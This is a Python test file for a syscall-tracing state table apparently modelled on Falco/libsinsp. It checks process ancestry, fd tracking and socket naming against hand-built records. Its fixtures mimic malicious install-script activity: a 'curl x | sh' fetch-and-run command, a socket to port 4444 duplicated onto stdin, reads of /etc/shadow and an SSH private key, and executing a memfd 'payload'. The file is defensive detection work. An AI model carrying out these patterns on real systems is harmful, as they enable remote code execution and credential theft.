"""The state table, fed hand-built records: process tree, fd tables, Falco-style arguments.

Expected values are worked out from the kernel's and libsinsp's rules (flag tables, tuple layout,
comm truncation), not copied from the code's output.
"""

from __future__ import annotations

import errno
import os
import socket

from capture_helpers import Rec, inet

from tracehound.capture import _consts as C
from tracehound.capture.raw import EXIT, FORK, PROC, SockAddr
from tracehound.capture.state import StateTable

ROOT = 100


def table(**kw) -> StateTable:
    kw.setdefault("root_cwd", "/work")
    kw.setdefault("root_uid", 0)
    kw.setdefault("root_gid", 0)
    return StateTable(**kw)


def start(st: StateTable, r: Rec, argv=("node", "install.js"), env=None):
    """The root process execs node, as the first record a backend produces."""
    return st.feed(r(ROOT, "execve", 0, filename="/usr/bin/node", argv=list(argv),
                     envp=env if env is not None else ["npm_package_name=evil", "HOME=/home/u", "AWS_SECRET=s"]))


def test_open_flags_paths_and_types():
    st, r = table(), Rec()
    start(st, r)
    ev = st.feed(r(ROOT, "openat", 3, dirfd=C.AT_FDCWD, path="package.json", flags=os.O_RDONLY | os.O_CLOEXEC))
    assert ev.type == "openat" and ev.res == 3
    # libsinsp prints flags in its table order: ... O_RDONLY, O_CLOEXEC
    assert ev.args["flags"] == "O_RDONLY|O_CLOEXEC"
    assert ev.args["flags"].raw == (1 << 0) | (1 << 12)
    assert ev.args["name"] == "/work/package.json"
    assert ev.fd.num == 3 and ev.fd.type == "file" and ev.fd.typechar == "f"
    assert ev.fd.name == "/work/package.json" and ev.fd.nameraw == "package.json"

    ev = st.feed(r(ROOT, "openat", 4, dirfd=C.AT_FDCWD, path="/etc/../tmp//x",
                   flags=os.O_WRONLY | os.O_CREAT | os.O_TRUNC, mode=0o644))
    assert ev.args["flags"] == "O_TRUNC|O_CREAT|O_WRONLY"
    assert ev.args["mode"] == 0o644
    assert ev.fd.name == "/tmp/x"

    ev = st.feed(r(ROOT, "openat", 5, dirfd=C.AT_FDCWD, path="/work", flags=os.O_RDONLY | os.O_DIRECTORY))
    assert ev.fd.type == "directory" and ev.fd.typechar == "d"
    ev = st.feed(r(ROOT, "openat", 6, dirfd=5, path="lib/a.js", flags=os.O_RDWR))
    assert ev.fd.name == "/work/lib/a.js"  # relative to the directory fd, not the cwd
    assert ev.args["flags"] == "O_RDWR"

    ev = st.feed(r(ROOT, "open", -errno.ENOENT, path="/etc/shadow", flags=0))
    assert ev.res == -2 and ev.fd.num == -1 and ev.fd.name == "/etc/shadow" and ev.fd.typechar == "f"
    ev = st.feed(r(ROOT, "creat", 7, path="out.bin", mode=0o755))
    assert ev.fd.name == "/work/out.bin" and "flags" not in ev.args and ev.args["mode"] == 0o755


def test_exec_comm_exe_args_env_and_ancestry():
    st, r = table(), Rec()
    ev = start(st, r)
    assert ev.proc.comm == "node" and ev.proc.exe == "node" and ev.proc.args == ["install.js"]
    assert ev.proc.exepath == "/usr/bin/node" and ev.proc.cwd == "/work"
    # the default filter keeps npm_* and HOME, not arbitrary secrets
    assert ev.proc.env == {"npm_package_name": "evil", "HOME": "/home/u"}
    assert ev.proc.user == "root" and ev.proc.uid == 0

    st.feed(r(ROOT, "clone", 200, flags=C.SIGCHLD))
    ev = st.feed(r(200, "execve", 0, filename="/bin/sh", argv=["sh", "-c", "curl x | sh"], envp=[]))
    assert ev.proc.pid == 200 and ev.proc.ppid == ROOT
    assert ev.proc.comm == "sh" and ev.proc.parent.comm == "node"
    assert ev.proc.cmdline == "sh -c curl x | sh"
    st.feed(r(200, "vfork", 201))
    # kernel comm is the basename of the path cut to 15 characters (TASK_COMM_LEN - 1)
    ev = st.feed(r(201, "execve", 0, filename="./a-very-long-program-name", argv=["./a-very-long-program-name"]))
    assert ev.proc.comm == "a-very-long-pro" and len(ev.proc.comm) == 15
    assert ev.proc.exe == "./a-very-long-program-name"
    assert ev.proc.exepath == "/work/a-very-long-program-name"
    assert [p.comm for p in ev.proc.ancestors()] == ["sh", "node"]
    assert ev.proc.ancestor(2).comm == "node" and ev.proc.ancestor(3) is None
    assert ev.proc.env == {}  # an explicit empty environment


def test_failed_execve_keeps_caller_state():
    st, r = table(), Rec()
    start(st, r)
    ev = st.feed(r(ROOT, "execve", -errno.ENOENT, filename="/nonexistent", argv=["x"]))
    assert ev.type == "execve" and ev.res == -2
    assert ev.proc.comm == "node" and ev.proc.args == ["install.js"]  # the caller, unchanged
    assert ev.args["filename"] == "/nonexistent"
    ev = st.feed(r(ROOT, "openat", 3, path="/a", flags=0))
    assert ev.proc.comm == "node"


def test_cloexec_fds_close_on_exec_and_fd_inheritance():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "openat", 3, path="/keep", flags=0))
    st.feed(r(ROOT, "openat", 4, path="/drop", flags=os.O_CLOEXEC))
    st.feed(r(ROOT, "socket", 5, domain=socket.AF_INET, type=socket.SOCK_STREAM | socket.SOCK_CLOEXEC, proto=0))
    st.feed(r(ROOT, "fcntl", 0, fd=3, cmd=C.F_SETFD, arg=C.FD_CLOEXEC))  # /keep becomes close-on-exec
    st.feed(r(ROOT, "openat", 6, path="/kept", flags=0))
    st.feed(r(ROOT, "clone", 300, flags=C.SIGCHLD))
    st.feed(r(300, "execve", 0, filename="/bin/cat", argv=["cat"]))
    evs = [st.feed(r(300, "close", 0, fd=n)) for n in (3, 4, 5, 6)]
    assert [e.fd is not None for e in evs] == [False, False, False, True]
    assert evs[3].fd.name == "/kept"
    # the parent still has its fds
    assert st.feed(r(ROOT, "close", 0, fd=4)).fd.name == "/drop"


def test_dup_family_and_stdio_types():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "socket", 3, domain=socket.AF_INET, type=socket.SOCK_STREAM, proto=0))
    st.feed(r(ROOT, "connect", 0, fd=3, addr=inet("1.2.3.4", 4444), local=inet("10.0.0.2", 40000)))
    ev = st.feed(r(ROOT, "dup2", 0, oldfd=3, newfd=0))
    # Falco's dup events refer to the old fd: the rule looks at fd.type of what was duplicated
    assert ev.res == 0 and ev.fd.num == 3 and ev.fd.type == "ipv4"
    assert ev.args == {"res": 0, "oldfd": 3, "newfd": 0}
    assert ev.proc.stdin_type == "ipv4"
    ev = st.feed(r(ROOT, "dup3", 1, oldfd=3, newfd=1, flags=os.O_CLOEXEC))
    assert ev.args["flags"] == "O_CLOEXEC" and ev.proc.stdout_type == "ipv4"
    ev = st.feed(r(ROOT, "fcntl", 10, fd=3, cmd=C.F_DUPFD_CLOEXEC, arg=10))
    assert ev.args["cmd"] == "F_DUPFD_CLOEXEC"
    ev = st.feed(r(ROOT, "sendto", 5, fd=10, data=b"hello", size=5))
    assert ev.fd.name == "10.0.0.2:40000->1.2.3.4:4444"  # the same socket behind the new number
    assert ev.buffer == b"hello"


def test_tcp_connect_tuple_and_name_resolution():
    st, r = table(resolve_name=lambda ip: "evil.example" if ip == "1.2.3.4" else None), Rec()
    start(st, r)
    ev = st.feed(r(ROOT, "socket", 3, domain=socket.AF_INET, type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK, proto=0))
    assert ev.args["domain"] == "AF_INET" and ev.fd.type == "ipv4" and ev.fd.l4proto == "tcp"
    assert ev.fd.name == "" and ev.fd.connected is False
    ev = st.feed(r(ROOT, "connect", -errno.EINPROGRESS, fd=3, addr=inet("1.2.3.4", 443),
                   local=inet("172.16.0.5", 51000)))
    fd = ev.fd
    assert fd.name == "172.16.0.5:51000->1.2.3.4:443"
    assert (fd.cip, fd.cport, fd.sip, fd.sport) == ("172.16.0.5", 51000, "1.2.3.4", 443)
    assert fd.sip_name == "evil.example" and fd.connected is True and fd.is_server is False
    assert ev.args == {"res": -115, "tuple": "172.16.0.5:51000->1.2.3.4:443", "fd": 3, "addr": "1.2.3.4:443"}


def test_failed_connect_leaves_socket_but_event_shows_destination():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "socket", 3, domain=socket.AF_INET6, type=socket.SOCK_STREAM, proto=0))
    ev = st.feed(r(ROOT, "connect", -errno.ECONNREFUSED, fd=3, addr=inet("::1", 22)))
    assert ev.fd.sip == "::1" and ev.fd.sport == 22 and ev.fd.connected is False
    assert ev.fd.name == ":::0->::1:22"  # unknown client side shown as the any-address, port 0
    ev = st.feed(r(ROOT, "close", 0, fd=3))
    assert ev.fd.name == "" and ev.fd.type == "ipv6"


def test_udp_sendto_changes_name_per_destination():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "socket", 3, domain=socket.AF_INET, type=socket.SOCK_DGRAM, proto=0))
    ev1 = st.feed(r(ROOT, "sendto", 29, fd=3, data=b"\x12\x34" + b"q" * 27, size=29, addr=inet("8.8.8.8", 53),
                    local=inet("0.0.0.0", 33333)))
    assert ev1.fd.name == "0.0.0.0:33333->8.8.8.8:53" and ev1.fd.l4proto == "udp"
    assert ev1.fd.name_changed is True and ev1.fd.connected is False
    assert ev1.args["size"] == 29 and ev1.args["tuple"] == "0.0.0.0:33333->8.8.8.8:53"
    ev2 = st.feed(r(ROOT, "sendto", 4, fd=3, data=b"ping", size=4, addr=inet("8.8.8.8", 53)))
    assert ev2.fd.name_changed is False
    ev3 = st.feed(r(ROOT, "sendto", 4, fd=3, data=b"ping", size=4, addr=inet("9.9.9.9", 53)))
    assert ev3.fd.name == "0.0.0.0:33333->9.9.9.9:53" and ev3.fd.name_changed is True
    assert ev1.fd.name == "0.0.0.0:33333->8.8.8.8:53"  # earlier events keep their snapshot


def test_accept_bind_listen_and_unix():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "socket", 3, domain=socket.AF_INET, type=socket.SOCK_STREAM, proto=0))
    st.feed(r(ROOT, "bind", 0, fd=3, addr=inet("0.0.0.0", 8080)))
    ev = st.feed(r(ROOT, "listen", 0, fd=3, backlog=128))
    assert ev.fd.name == "0.0.0.0:8080" and ev.fd.is_server is True and ev.fd.sport == 8080
    ev = st.feed(r(ROOT, "accept4", 4, fd=3, addr=inet("10.1.1.1", 5555), flags=socket.SOCK_CLOEXEC,
                   local=inet("10.0.0.2", 8080)))
    # for an accepted connection the client is the peer and the server is us
    assert ev.fd.name == "10.1.1.1:5555->10.0.0.2:8080" and ev.fd.is_server is True
    st.feed(r(ROOT, "socket", 5, domain=socket.AF_UNIX, type=socket.SOCK_STREAM, proto=0))
    ev = st.feed(r(ROOT, "connect", 0, fd=5, addr=SockAddr(socket.AF_UNIX, path="/var/run/docker.sock")))
    assert ev.fd.type == "unix" and ev.fd.name == "/var/run/docker.sock" and ev.fd.typechar == "u"


def test_packet_socket_ptrace_links_memfd():
    st, r = table(), Rec()
    start(st, r)
    ev = st.feed(r(ROOT, "socket", -errno.EPERM, domain=socket.AF_PACKET, type=socket.SOCK_RAW, proto=768))
    assert ev.args["domain"] == "AF_PACKET" and ev.args["domain"].raw == 17 and ev.fd is None
    ev = st.feed(r(ROOT, "ptrace", 0, request=16, pid=4242))
    assert ev.args["request"] == "PTRACE_ATTACH" and ev.args["pid"] == 4242
    assert st.feed(r(ROOT, "ptrace", -1, request=0, pid=0)).args["request"] == "PTRACE_TRACEME"
    ev = st.feed(r(ROOT, "symlinkat", 0, target="/etc/shadow", linkdirfd=C.AT_FDCWD, linkpath="s"))
    assert ev.args["target"] == "/etc/shadow" and ev.args["linkpath"] == "/work/s"
    ev = st.feed(r(ROOT, "link", 0, oldpath="/etc/passwd", newpath="../p"))
    assert ev.args == {"res": 0, "oldpath": "/etc/passwd", "newpath": "/p"}
    ev = st.feed(r(ROOT, "memfd_create", 7, name="payload", flags=C.MFD_CLOEXEC))
    assert ev.fd.type == "memfd" and ev.fd.typechar == "m" and ev.fd.name == "memfd:payload"
    st.feed(r(ROOT, "fcntl", 0, fd=7, cmd=C.F_SETFD, arg=0))
    ev = st.feed(r(ROOT, "execveat", 0, dirfd=7, filename="", argv=["x"], flags=C.AT_EMPTY_PATH))
    assert ev.proc.exe_from_memfd is True and ev.proc.exepath == "memfd:payload"


def test_chdir_fchdir_and_relative_paths():
    st, r = table(), Rec()
    start(st, r)
    ev = st.feed(r(ROOT, "chdir", 0, path="node_modules/pkg"))
    assert ev.args["path"] == "/work/node_modules/pkg" and ev.proc.cwd == "/work/node_modules/pkg"
    assert st.feed(r(ROOT, "openat", 3, path="../x", flags=0)).fd.name == "/work/node_modules/x"
    st.feed(r(ROOT, "openat", 4, path="/tmp", flags=os.O_DIRECTORY))
    st.feed(r(ROOT, "fchdir", 0, fd=4))
    assert st.feed(r(ROOT, "openat", 5, path="y", flags=0)).fd.name == "/tmp/y"
    st.feed(r(ROOT, "chdir", -errno.ENOENT, path="/nope"))
    assert st.feed(r(ROOT, "openat", 6, path="z", flags=0)).proc.cwd == "/tmp"


def test_threads_share_fds_and_report_tid():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "clone3", 101, flags=C.CLONE_VM | C.CLONE_FS | C.CLONE_FILES | C.CLONE_SIGHAND | C.CLONE_THREAD))
    ev = st.feed(r(101, "openat", 3, path="a", flags=0))
    assert ev.proc.pid == ROOT and ev.proc.tid == 101 and ev.proc.comm == "node"
    ev = st.feed(r(ROOT, "close", 0, fd=3))
    assert ev.fd.name == "/work/a"  # the thread's fd is the process's fd
    st.feed(r(101, "chdir", 0, path="/srv"))
    assert st.feed(r(ROOT, "openat", 3, path="b", flags=0)).fd.name == "/srv/b"  # CLONE_FS


def test_setsid_daemon_keeps_creation_ancestry():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "clone", 400, flags=C.SIGCHLD))
    ev = st.feed(r(400, "setsid", 400))
    assert ev.proc.sid == 400 and ev.proc.sname == "node"
    st.feed(r(400, "clone", 401, flags=C.SIGCHLD))
    st.feed(r(400, EXIT, None, code=0))
    st.feed(r(ROOT, EXIT, None, code=0))
    ev = st.feed(r(401, "openat", 3, path="/tmp/daemon", flags=os.O_WRONLY | os.O_CREAT))
    assert ev.proc.sid == 400 and ev.proc.ppid == 400
    assert [p.pid for p in ev.proc.ancestors()] == [400, ROOT]


def test_fork_record_before_clone_exit_and_pid_namespace():
    """bpftrace reports the child at fork time, before the parent's clone returns (vfork)."""
    st, r = table(), Rec()
    start(st, r)
    assert st.feed(r(ROOT, FORK, None, tgid=ROOT, child=500, flags=C.CLONE_VM | C.CLONE_VFORK | C.SIGCHLD)) is None
    ev = st.feed(r(500, "execve", 0, tgid=500, comm="sh", filename="/bin/sh", argv=["sh"]))
    assert ev.proc.parent.pid == ROOT and ev.proc.comm == "sh"
    ev = st.feed(r(ROOT, "clone", 2, tgid=ROOT, flags=C.CLONE_NEWPID | C.SIGCHLD))  # child 2 in a new ns
    assert ev.res == 2
    st.feed(r(ROOT, FORK, None, tgid=ROOT, child=600, flags=C.CLONE_NEWPID | C.SIGCHLD))
    ev = st.feed(r(600, "openat", 3, tgid=600, path="/x", flags=0))
    assert ev.proc.vpid == 1  # first process of a new pid namespace


def test_vfork_child_learns_its_namespace_pid_retroactively():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, FORK, None, tgid=ROOT, child=501, flags=C.CLONE_VM | C.CLONE_VFORK | C.SIGCHLD))
    early = st.feed(r(501, "execve", 0, tgid=501, comm="sh", filename="/bin/sh", argv=["sh"]))
    assert early.proc.vpid is None  # the parent's vfork has not returned yet
    st.feed(r(ROOT, "vfork", 7, tgid=ROOT, child=501))
    assert early.proc.vpid == 7  # ... now it has: the earlier event knows too
    assert st.feed(r(501, "openat", 3, tgid=501, path="/x", flags=0)).proc.vpid == 7


def test_vfork_child_with_many_events_before_the_parent_returns():
    """A busy host schedules the vfork parent late: the child can exec, open hundreds of files and
    exit before the parent's vfork return is seen. Every one of its events must learn its pid."""
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, FORK, None, tgid=ROOT, child=501, flags=C.CLONE_VM | C.CLONE_VFORK | C.SIGCHLD))
    st.feed(r(501, "execve", 0, tgid=501, comm="cat", filename="/bin/cat", argv=["cat", "/home/u/.ssh/id_rsa"]))
    events = [st.feed(r(501, "openat", 3 + i % 100, tgid=501, path=f"/usr/lib/locale/{i}", flags=0))
              for i in range(600)]
    events.append(st.feed(r(501, "openat", 3, tgid=501, path="/home/u/.ssh/id_rsa", flags=0)))
    st.feed(r(501, EXIT, None, tgid=501, code=0, group_dead=True))  # gone before its parent returns
    st.feed(r(ROOT, "vfork", 2, tgid=ROOT, child=501))
    assert {e.proc.vpid for e in events if e is not None} == {2}


def test_clone_in_a_pid_namespace_links_the_host_pid():
    st, r = table(), Rec()
    start(st, r)
    st.feed(r(ROOT, "clone", 1, flags=C.CLONE_NEWPID | C.SIGCHLD, child=7000))  # bwrap --unshare-pid
    st.feed(r(7000, "clone", 2, flags=C.SIGCHLD, child=7001))  # inside: the caller sees vpid 2
    ev = st.feed(r(7001, "execve", 0, filename="/bin/sh", argv=["sh"]))
    assert (ev.proc.pid, ev.proc.vpid, ev.proc.ppid) == (7001, 2, 7000)
    assert ev.proc.parent.vpid == 1 and ev.proc.parent.parent.pid == ROOT
    assert 1 not in st.threads and 2 not in st.threads  # no process invented from a namespace pid


def test_unknown_process_bootstrap_and_exit_event():
    st, r = table(evttypes={"openat", "procexit"}, root_uid=None), Rec()
    st.feed(r(900, PROC, None, tgid=900, comm="sh", ppid=1, uid=1000, gid=1000))
    ev = st.feed(r(900, "openat", 3, tgid=900, path="x", flags=0))
    assert ev.proc.comm == "sh" and ev.proc.uid == 1000 and ev.proc.ppid == 1 and ev.proc.cwd == "/work"
    ev = st.feed(r(900, EXIT, None, tgid=900, code=3, group_dead=True))
    assert ev.type == "procexit" and ev.args == {"status": 3}


def test_evttypes_filter_keeps_state_and_numbers_events():
    st, r = table(evttypes={"connect"}), Rec()
    assert start(st, r) is None  # execve not wanted, but its state is kept
    assert st.feed(r(ROOT, "socket", 3, domain=socket.AF_INET, type=socket.SOCK_STREAM, proto=0)) is None
    ev = st.feed(r(ROOT, "connect", 0, fd=3, addr=inet("1.1.1.1", 80)))
    assert ev.num == 1 and ev.proc.comm == "node" and ev.fd.sip == "1.1.1.1"
    ev = st.feed(r(ROOT, "connect", 0, fd=3, addr=inet("1.1.1.1", 80)))
    assert ev.num == 2


def test_container_fields_and_user_names_from_sandbox_passwd(tmp_path):
    pw = tmp_path / "passwd"
    pw.write_text("root:x:0:0::/root:/bin/sh\nbuilder:x:1000:1000::/home/builder:/bin/sh\n")
    gr = tmp_path / "group"
    gr.write_text("root:x:0:\nbuilder:x:1000:\n")
    from tracehound.capture.users import UserDb

    st = table(container_id="run-42", container_name="tracehound-run", users=UserDb(pw, gr), root_uid=1000,
               root_gid=1000)
    r = Rec()
    ev = start(st, r)
    assert ev.container_id == "run-42" and ev.container_name == "tracehound-run"
    assert ev.proc.user == "builder" and ev.proc.group == "builder"
    ev = st.feed(r(ROOT, "setresuid", 0, ruid=0, euid=0, suid=0))
    assert ev.proc.uid == 0 and ev.proc.user == "root"


def test_strace_annotations_fill_unknown_fds_and_local_ports():
    st, r = table(), Rec()
    start(st, r)
    # an inherited fd the table never saw created: the annotation says what it is
    ev = st.feed(r(ROOT, "dup2", 1, oldfd=7, newfd=1, hints={7: "pipe:[1234]", 1: "pipe:[1234]"}))
    assert ev.fd.type == "pipe"
    st.feed(r(ROOT, "socket", 3, domain=socket.AF_INET, type=socket.SOCK_STREAM, proto=0, hints={3: "TCP:[999]"}))
    ev = st.feed(r(ROOT, "connect", 0, fd=3, addr=inet("127.0.0.1", 8080), hints={3: "TCP:[999]"}))
    assert ev.fd.cport is None and ev.fd.name == "0.0.0.0:0->127.0.0.1:8080"
    # a later syscall on the fd shows the connected tuple; the connect event learns its client side
    st.feed(r(ROOT, "close", 0, fd=3, hints={3: "TCP:[127.0.0.1:45678->127.0.0.1:8080]"}))
    assert ev.fd.name == "127.0.0.1:45678->127.0.0.1:8080" and ev.fd.cport == 45678
    assert ev.args["tuple"] == "127.0.0.1:45678->127.0.0.1:8080"


def test_shebang_scripts_get_the_kernel_argv():
    heads = {"/work/run.sh": b"#!/bin/sh -e\necho hi\n", "/work/tool": b"#!/usr/bin/env node\n"}
    st, r = table(read_head=heads.get), Rec()
    start(st, r)
    ev = st.feed(r(ROOT, "execve", 0, filename="./run.sh", argv=["./run.sh", "a"]))
    assert ev.proc.comm == "run.sh" and ev.proc.exe == "/bin/sh" and ev.proc.args == ["-e", "./run.sh", "a"]
    ev = st.feed(r(ROOT, "execve", 0, filename="/work/tool", argv=["tool", "--x"]))
    assert ev.proc.exe == "/usr/bin/env" and ev.proc.args == ["node", "/work/tool", "--x"]


def test_start_exec_reports_only_what_runs_after_the_launcher():
    st, r = table(start_exec="bwrap"), Rec()
    assert st.feed(r(ROOT, "execve", 0, filename="/usr/bin/python3", argv=["python3", "-I", "shim.py"])) is None
    assert st.feed(r(ROOT, "openat", 3, path="/usr/lib/python3.11/os.py", flags=0)) is None
    ev = st.feed(r(ROOT, "execve", 0, filename="/usr/bin/bwrap", argv=["bwrap", "--args", "3"]))
    assert ev is not None and ev.proc.comm == "bwrap"
    st.feed(r(ROOT, "clone", 800, flags=C.SIGCHLD))
    ev = st.feed(r(800, "openat", 4, path="/etc/passwd", flags=0))
    assert ev is not None and ev.proc.parent.comm == "bwrap"  # descendants are reported
    assert [e.num for e in (ev,)] == [3]  # the launcher's events did not take numbers
